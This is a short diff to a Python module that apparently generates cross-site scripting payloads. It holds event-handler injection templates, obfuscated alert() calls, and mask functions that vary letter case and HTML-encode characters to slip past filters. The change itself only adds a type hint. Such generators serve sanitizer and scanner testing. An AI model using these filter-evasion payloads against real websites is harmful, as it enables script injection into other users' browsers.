@@ -3,7 +3,7 @@
 A payload is a way out of where a text stands, something that runs, and a disguise. Each calls window.alert.
 """
 
-from collections.abc import Iterator, Sequence
+from collections.abc import Callable, Iterator, Sequence
 from html.parser import HTMLParser
 from itertools import cycle, product
 from typing import Any
@@ -38,7 +38,7 @@ _RUNS = (
     "<marquee onstart={js}>x</marquee>",
 )
 _CALLS = ("alert(1)", "window['alert'](1)", "top.alert`1`", "(alert)(1)", "setTimeout`alert\\x281\\x29`")
-_MASKS = (
+_MASKS: tuple[Callable[[str], str], ...] = (
     str,
     lambda text: text.replace("img", "iMg").replace("svg", "SvG").replace("script", "sCrIpT"),
     lambda text: text.replace("alert", "&#97;lert"),
